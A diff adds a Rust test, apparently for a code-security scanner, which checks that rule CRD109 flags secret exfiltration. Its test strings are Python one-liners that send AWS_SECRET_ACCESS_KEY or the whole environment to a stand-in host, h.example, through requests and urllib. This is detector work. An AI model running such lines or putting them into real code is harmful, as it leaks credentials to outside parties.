@@ -371,3 +371,21 @@ fn host_files_sent_off_the_machine_are_exfiltration() {
     );
     level(Level::Low, "print(open('/proc/cpuinfo').read())\n");
 }
+
+#[test]
+fn secrets_in_a_requests_body_or_the_whole_environment_anywhere_are_exfiltration() {
+    // A credential in the body, or the whole environment even in headers or parameters,
+    // leaves the machine as data.
+    fires(
+        "CRD109",
+        "import os, requests\nrequests.post('https://h.example/c', json={'k': os.environ['AWS_SECRET_ACCESS_KEY']})\n",
+    );
+    fires(
+        "CRD109",
+        "import os, requests\nrequests.get('https://h.example/p', params=dict(os.environ))\n",
+    );
+    fires(
+        "CRD109",
+        "import os, urllib.request\nreq = urllib.request.Request('https://h.example/u', data=str(os.environ).encode())\nurllib.request.urlopen(req)\n",
+    );
+}
